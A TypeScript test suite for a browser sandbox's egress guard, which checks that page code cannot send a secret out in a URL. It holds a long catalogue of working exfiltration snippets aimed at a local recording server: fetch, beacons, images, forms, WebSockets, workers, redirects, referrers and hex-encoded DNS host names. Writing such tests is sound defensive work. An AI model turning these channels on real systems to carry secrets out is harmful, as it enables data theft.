/**
 * Checks that a page cannot send a URL that contains a secret, with any API and in any encoding. A server records the requests that arrive.
 */

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect } from "chai";
import type { Browsers } from "../../../src/engine/browser/browsers.js";
import type { ProxyPort } from "../../../src/engine/browser/network/proxy-port.js";
import { EVALUATION_MODES, modeHasNetwork, type PageRunRequest } from "../../../src/engine/browser/run.js";
import { createEgressProxy, type EgressProxy } from "../../../src/engine/egress-proxy.js";
import { SecretScan } from "../../../src/engine/secret-scan/scan.js";
import { sampleOf } from "../../harness/samples.js";
import { until } from "../../harness/until.js";
import { ALL_TEXTS, ENCODINGS, MULTILINE_SECRET, SECRET } from "./secret-writings.js";
import { failureOf, resultOf, runOf, sharedBrowsers } from "./support.js";

/** Modes with network access. */
const NETWORK_MODES = EVALUATION_MODES.filter(modeHasNetwork);

/** Title and code of APIs that all modes have. The code requests the URL U, or a URL that it builds from BASE and TEXT. */
const REQUEST_APIS: [string, string][] = [
  ["fetch", "await fetch(U)"],
  ["fetch without cors", "await fetch(U, { mode: 'no-cors' })"],
  ["fetch that outlives its page", "await fetch(U, { keepalive: true })"],
  ["fetch with a body", "await fetch(U, { method: 'POST', body: 'x' })"],
  ["fetch behind a preflight", "await fetch(U, { method: 'PUT', headers: { 'x-own': '1' } })"],
  ["fetch of a URL object", "await fetch(new URL(U))"],
  ["fetch of what says to be an address", "await fetch({ toString: () => U })"],
  ["a URL object's parameters", "const u = new URL(BASE); u.searchParams.set('n', TEXT); await fetch(u)"],
  ["a URL object's path", "const u = new URL(BASE); u.pathname = TEXT; await fetch(u)"],
  ["a path", "await fetch(BASE + TEXT)"],
  ["a Request", "await fetch(new Request(U))"],
  ["a Request of another", "await fetch(new Request(new Request(U), { method: 'POST' }))"],
  ["a clone of a Request", "await fetch(new Request(U).clone())"],
];
/** Title and code of a request that the run's library sends to the service. */
const LIBRARY_REQUEST = [
  "the library's way to the service",
  "await globalThis.__svcService.call('GET', U, {}, null)",
] as const;

/** Title and code of APIs that only a document has. The code requests U (an HTTP URL) or W (a WebSocket URL). */
const DOCUMENT_APIS: [string, string][] = [
  ["fetch that goes on", "fetch(U, { keepalive: true })"],
  ["XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', U); x.send()"],
  ["a synchronous XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', U, false); x.send()"],
  ["a beacon", "navigator.sendBeacon(U, 'x')"],
  ["an image", "new Image().src = U"],
  ["a script", "element('script', 'src')"],
  ["a dynamic import", "await import(U)"],
  ["a style sheet", "element('link', 'href', { rel: 'stylesheet' })"],
  ["a prefetch", "element('link', 'href', { rel: 'prefetch' })"],
  ["a preload", "element('link', 'href', { rel: 'preload', as: 'fetch' })"],
  [
    "CSS",
    "const e = document.createElement('style'); e.textContent = 'body { background: url(\"' + U + '\") }'; document.head.append(e)",
  ],
  ["a font", "await new FontFace('f', 'url(\"' + U + '\")').load()"],
  ["EventSource", "new EventSource(U)"],
  ["a frame", "element('iframe', 'src')"],
  ["an object", "element('object', 'data')"],
  ["a video", "element('video', 'src', { preload: 'auto' })"],
  [
    "a form",
    "document.body.innerHTML = '<iframe name=f></iframe>'; const e = document.createElement('form'); e.method = 'post'; e.action = U; e.target = 'f'; document.body.append(e); e.submit()",
  ],
  [
    "a form's fields",
    "document.body.innerHTML = '<iframe name=f></iframe><form target=f><input name=n></form>'; const e = document.forms[0]; e.action = BASE; e.n.value = TEXT; e.submit()",
  ],
  [
    "a ping",
    "const a = document.createElement('a'); a.href = '#'; a.ping = encodeURI(U); document.body.append(a); a.click()",
  ],
  ["a navigation", "location.href = U"],
  ["a window", "open(U)"],
  ["a window without an opener", "open(U, '_blank', 'noopener')"],
  ["WebSocket", "new WebSocket(W)"],
  ["a WebSocket stream", "await new WebSocketStream(W).opened"],
  ["a preconnect", "element('link', 'href', { rel: 'preconnect' })"],
  ["a frame's script", "frame('fetch(' + JSON.stringify(U) + ')')"],
  ["a frame's WebSocket", "frame('new WebSocket(' + JSON.stringify(W) + ')')"],
  [
    "a data frame's WebSocket",
    // With another charset, the text of the page would differ from the secret.
    "element('iframe', 'src', {}, 'data:text/html;charset=utf-8,' + encodeURIComponent(script('new WebSocket(' + JSON.stringify(W) + ')')))",
  ],
  ["a worker's fetch", "worker('fetch(' + JSON.stringify(U) + ')')"],
  ["a worker's import", "worker('importScripts(' + JSON.stringify(U) + ')')"],
  ["a worker's WebSocket", "worker('new WebSocket(' + JSON.stringify(W) + ')')"],
  [
    "a worker's worker's WebSocket",
    "worker('new Worker(URL.createObjectURL(new Blob([' + JSON.stringify('new WebSocket(' + JSON.stringify(W) + ')') + '])))')",
  ],
  ["a shared worker", "new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(U) + ')'])))"],
  ["a worklet", "await new AudioContext().audioWorklet.addModule(U)"],
];

const TOOLS = `
  const script = (code) => "<script>" + code + "</scr" + "ipt>";
  const element = (name, key, more = {}, value = U) => { const e = document.createElement(name); Object.assign(e, more); e[key] = value; document.body.append(e); };
  const frame = (code) => element("iframe", "srcdoc", {}, script(code));
  const worker = (code) => { new Worker(URL.createObjectURL(new Blob([code]))).onerror = () => {}; };`;

describe("URLs that a run may not request", () => {
  let browsers: Browsers;
  let proxy: EgressProxy;
  let server: Server;
  let port: number;
  let arrived: string[] = [];
  /** Pattern of the requests that must arrive before the server responds to /harmless. */
  let firstAwaitedUrl = /^/;
  const scan = new SecretScan(
    [SECRET, MULTILINE_SECRET].map((value) => ({ name: "_secret", value, mustMatchWhole: false })),
  );
  /** Returns the received URLs, without three that contain no data of the run. Any other URL may contain the secret. */
  const received = () => arrived.filter((url) => !["/", "/x", "/harmless"].includes(url));

  const FORMS_CODE = `const bytes = [...new TextEncoder().encode(s)];
    const base64 = (before) => btoa(before + String.fromCharCode(...bytes));`;
  /**
   * Returns code that sends each text of `texts` (code of an array) with one API. The code waits for the API, but at most until the
   * promise of `limitCode` resolves.
   */
  const codeFor = (
    way: string,
    texts: string,
    limitCode = "new Promise((r) => setTimeout(r, 30))",
  ) => `const execute = async ({ payload: { s } }) => {
    ${FORMS_CODE}
    for (const TEXT of ${texts}) {
      const BASE = "http://127.0.0.1:${port}/", U = BASE + "x?" + TEXT, W = U.replace("http", "ws");
      ${TOOLS}
      try { await Promise.race([(async () => { ${way} })(), ${limitCode}]); } catch {}
    }
    await new Promise((r) => setTimeout(r, 100));
    return fetch("http://127.0.0.1:${port}/harmless").then((answer) => answer.text(), String);
  }`;
  /** Returns code like that of `codeFor`, which sends the text `plain` and waits for the API without a limit. */
  const waitingCodeFor = (way: string) => codeFor(way, "['plain']", "new Promise(() => {})");

  before(async () => {
    server = createServer(async (request, response) => {
      if (request.url === "/harmless") await until(() => firstAwaitedUrl.test(arrived.join())).catch(() => {});
      arrived.push(request.url!);
      response.setHeader("Access-Control-Allow-Origin", "*");
      response.setHeader("Access-Control-Allow-Methods", "PUT").setHeader("Access-Control-Allow-Headers", "x-own");
      const [, status] = /^\/moved\/(\d+)/.exec(request.url!) ?? [];
      if (status) response.writeHead(Number(status), { Location: `/x?${encodeURIComponent(SECRET)}` });
      response.end("here");
    });
    server.on("upgrade", (request, socket) => {
      arrived.push(request.url!);
      socket.destroy();
    });
    await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
    port = (server.address() as AddressInfo).port;
    proxy = createEgressProxy({ allowPrivateNetwork: true });
    browsers = sharedBrowsers({ openProxyPort: () => proxy.openProxyPort(), spareContexts: 4 });
    await browsers.start();
  });
  beforeEach(() => {
    arrived = [];
    firstAwaitedUrl = /^/;
  });
  after(async () => {
    await browsers.stop();
    proxy.close();
    server.close();
  });

  /** Returns code of a run that sends each encoding of both secrets. The result has "sent" or an error message for each encoding. */
  const codeOf = (way: string) => `const execute = async ({ payload: { secrets } }) => {
    const outcomes = {};
    for (const s of secrets) {
      ${FORMS_CODE}
      for (const [name, TEXT] of Object.entries({ ${ENCODINGS.map(([name, expression]) => `${JSON.stringify(name)}: ${expression}`).join(", ")} })) {
        const BASE = "http://127.0.0.1:${port}/", U = BASE + "x?" + TEXT;
        await (async () => { ${way} })().then(() => { outcomes[name] = "sent"; }, (error) => { outcomes[name] ??= error.message; });
      }
    }
    return [outcomes, await fetch("http://127.0.0.1:${port}/harmless").then((answer) => answer.text(), String)];
  }`;
  const secrets = JSON.stringify({ secrets: [SECRET, MULTILINE_SECRET] });
  const blocked = Object.fromEntries(ENCODINGS.map(([name]) => [name, "Failed to fetch"]));

  const payload = JSON.stringify({ s: SECRET });
  const mayRequest = (url: string) => scan.findInUrl(url) === null;

  /** Records requests to the service. The guard must refuse all of them. */
  const service: PageRunRequest["service"] = {
    base: "http://127.0.0.1",
    async send({ url }) {
      arrived.push(new URL(url).pathname + new URL(url).search);
      return { status: 200, headers: {}, text: (async function* () {})() };
    },
  };

  /** Executes a run that may request any URL, and that waits until its request has arrived. Returns the requests that arrived. */
  async function readRequestsFrom(way: string, changes: Partial<PageRunRequest> = {}): Promise<string> {
    firstAwaitedUrl = /plain/;
    await browsers.run(runOf(waitingCodeFor(way), { ...changes, payload, mayRequest: () => true }));
    return arrived.join();
  }

  for (const [title, way] of sampleOf(DOCUMENT_APIS, 0, 8)) {
    it(`are not sent by ${title} in any of ${ENCODINGS.length} encodings`, async () => {
      await browsers.run(runOf(codeFor(way, ALL_TEXTS), { payload, mayRequest }));
      expect(received()).to.deep.equal([]);
    });
  }

  for (const mode of NETWORK_MODES) {
    describe(`in mode ${mode}`, () => {
      const here = { mode, service };
      const requests = mode === "document" ? REQUEST_APIS : [LIBRARY_REQUEST, ...REQUEST_APIS];
      for (const [title, way] of sampleOf(requests, 0, 8)) {
        it(`are not sent by ${title} in any of ${ENCODINGS.length} encodings, and the run continues`, async () => {
          const outcome = await resultOf(browsers, codeOf(way), { ...here, payload: secrets, mayRequest });
          expect(outcome).to.deep.equal([blocked, "here"]);
          expect(arrived).to.deep.equal(["/harmless"]);
        });
      }
      for (const [title, way] of sampleOf(requests, 0, 12)) {
        it(`are sent by ${title} if the check allows them`, async () => {
          expect(await readRequestsFrom(way, here)).to.match(/plain.*,\/harmless$/);
        });
      }

      it("are not sent by a redirect, and not as a referrer", async () => {
        const code = `const execute = async ({ payload: { s } }) => {
          const at = "http://127.0.0.1:${port}", from = ${JSON.stringify(runOf("").origin)} + "?" + encodeURIComponent(s);
          const outcomes = [];
          const ask = (...values) => fetch(...values).then((answer) => outcomes.push(answer.url), (error) => outcomes.push(error.message));
          for (const status of [301, 302, 303, 307, 308]) await ask(at + "/moved/" + status);
          await ask(at + "/from", { referrer: from, referrerPolicy: "unsafe-url" });
          await ask(new Request(at + "/from", { referrer: from, referrerPolicy: "unsafe-url" }));
          return [outcomes, await fetch(at + "/harmless").then((answer) => answer.text())];
        }`;
        const [outcomes, last] = (await resultOf(browsers, code, { ...here, payload, mayRequest })) as [
          string[],
          string,
        ];
        expect(outcomes).to.deep.equal(Array(7).fill("Failed to fetch"));
        expect(last).to.equal("here");
        const moved = [301, 302, 303, 307, 308].map((status) => `/moved/${status}`);
        expect(arrived).to.deep.equal([...moved, "/harmless"]);
      });

      it("are not sent in a URL of the page's own, which is not requested", async () => {
        // An isolate has no blob URLs.
        const blobs = mode === "document" ? "[blob(), blob() + '#' + text]" : "[]";
        const code = `const execute = async ({ payload: { s } }) => {
          const text = encodeURIComponent(s), blob = () => URL.createObjectURL(new Blob([s]));
          const addresses = ["data:text/plain;charset=utf-8," + text, ...${blobs}];
          return Promise.all(addresses.map((address) => fetch(address).then((answer) => answer.text())));
        }`;
        const count = mode === "document" ? 3 : 1;
        expect(await resultOf(browsers, code, { ...here, payload, mayRequest })).to.deep.equal(
          Array(count).fill(SECRET),
        );
        expect(arrived).to.deep.equal([]);
      });

      it("are not sent by a context that has served a run without a check", async () => {
        const changes = { ...here, payload, isolationKey: `judged late in ${mode}` };
        await browsers.run(runOf(waitingCodeFor("await fetch(U)"), changes));
        expect(arrived).to.deep.equal(["/x?plain", "/harmless"]);
        arrived = [];
        await browsers.run(runOf(codeFor("await fetch(U)", ALL_TEXTS), { ...changes, mayRequest }));
        expect(arrived).to.deep.equal(["/harmless"]);
      });
    });
  }

  const sent = "an image|a frame|EventSource|WebSocket|a worker's fetch|a worker's WebSocket|a form";
  for (const [title, way] of DOCUMENT_APIS.filter(([name]) => sent.split("|").includes(name))) {
    it(`are sent by ${title} if the check allows them`, async () => {
      expect(await readRequestsFrom(way)).to.match(/(^|,)\/x\?plain(,|$)/);
    });
  }

  it("are not looked up as a host name, in any case", async () => {
    const hosts: string[] = [];
    const hex = Buffer.from(SECRET).toString("hex");
    const code = `const execute = async () => {
      for (const host of ["${hex.slice(0, 40)}.${hex.slice(40)}.test", "a-${hex.slice(0, 30)}-${hex.slice(30)}.test"]) {
        await fetch("https://" + host + "/").catch(() => {});
        const link = document.createElement("link");
        Object.assign(link, { rel: "preconnect", href: "https://" + host }); document.head.append(link);
        new WebSocket("wss://" + host);
      }
      await new Promise((r) => setTimeout(r, 100));
    }`;
    await browsers.run(runOf(code, { mayRequest, onHost: (host) => hosts.push(host) }));
    expect(hosts).to.deep.equal([]);
  });

  it("cause an error that names neither the host nor the query", async () => {
    const code = `const execute = ({ payload }) => fetch("http://127.0.0.1:${port}/x?" + encodeURIComponent(payload.s))`;
    const { error } = await failureOf(browsers, code, { payload, mayRequest });
    expect(error.message).to.equal(
      "Failed to fetch an address: the request was blocked, because its URL contains a secret of the app",
    );
  });

  it("are blocked by the page's own check if the proxy port does not check", async () => {
    const openProxyPort = async (): Promise<ProxyPort> => {
      const proxyPort = await proxy.openProxyPort();
      const begin: ProxyPort["startRun"] = (run) => proxyPort.startRun({ onHost: run.onHost });
      const { proxyServer } = proxyPort;
      return {
        proxyServer,
        startRun: begin,
        endRun: () => proxyPort.endRun(),
        wasUsed: () => proxyPort.wasUsed(),
        wasUsedLate: () => proxyPort.wasUsedLate(),
        close: () => proxyPort.close(),
      };
    };
    const browsersWithoutGuard = sharedBrowsers({ openProxyPort });
    await browsersWithoutGuard.start();
    try {
      const httpExits = DOCUMENT_APIS.filter(([, way]) => !/\(W\)|WebSocket/.test(way));
      for (const [title, way] of sampleOf(httpExits, 0, 12)) {
        await browsersWithoutGuard.run(runOf(codeFor(way, "[s]"), { payload, mayRequest }));
        expect(received(), title).to.deep.equal([]);
      }
      for (const [at, mode] of NETWORK_MODES.entries()) {
        // The page first executes a run without `mayRequest`, whose requests are not checked. The next runs must be checked.
        const unguardedRun = { payload, mode, isolationKey: `judged late in ${mode}` };
        await browsersWithoutGuard.run(runOf(codeFor("", "[]"), unguardedRun));
        for (const [title, way] of sampleOf(REQUEST_APIS, at, 16)) {
          await browsersWithoutGuard.run(runOf(codeFor(way, "[s]"), { ...unguardedRun, mayRequest }));
          expect(received(), `${title} of mode ${mode}`).to.deep.equal([]);
        }
      }
    } finally {
      await browsersWithoutGuard.stop();
    }
  });
});
